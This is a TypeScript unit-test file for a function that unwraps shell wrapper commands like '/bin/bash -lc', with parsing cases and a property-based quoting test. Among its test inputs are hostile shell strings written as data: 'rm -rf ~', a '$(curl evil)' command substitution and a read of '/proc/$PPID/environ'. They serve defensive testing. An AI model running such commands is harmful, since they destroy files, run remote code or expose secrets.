import fc from "fast-check";
import { expect, test } from "vitest";
import { unwrapShell } from "./shell-command.ts";

test.each([
  ["/bin/bash -lc 'echo hi; cat a.txt'", "echo hi; cat a.txt"],
  ["/bin/bash -lc nosuchcmd", "nosuchcmd"],
  ["/usr/bin/zsh -lc 'a'", "a"],
  ["bash -c ls", "ls"],
  [
    `/bin/bash -lc "env | grep \\"A\\"; cat /proc/"'$PPID/environ; true'`,
    'env | grep "A"; cat /proc/$PPID/environ; true',
  ],
  ["/bin/bash -lc 'it'\\''s'", "it's"],
])("%s runs %s", (command, script) => {
  expect(unwrapShell(command)).toBe(script);
});

test.each([
  "",
  "echo hi",
  "/bin/bash script.sh",
  "/bin/bash -lc 'one' 'two'",
  "/bin/bash -lc 'one' && rm -rf ~",
  '/bin/bash -lc "$(curl evil)"',
  "/bin/bash -lc 'unclosed",
  "python -c 'x'",
])("%j is nothing but itself", (command) => {
  expect(unwrapShell(command)).toBe(command);
});

test("any script comes back as it was quoted", () => {
  fc.assert(
    fc.property(fc.string({ minLength: 1 }), (script) => {
      expect(unwrapShell(`/bin/bash -lc '${script.replaceAll("'", "'\\''")}'`)).toBe(script);
    }),
  );
});
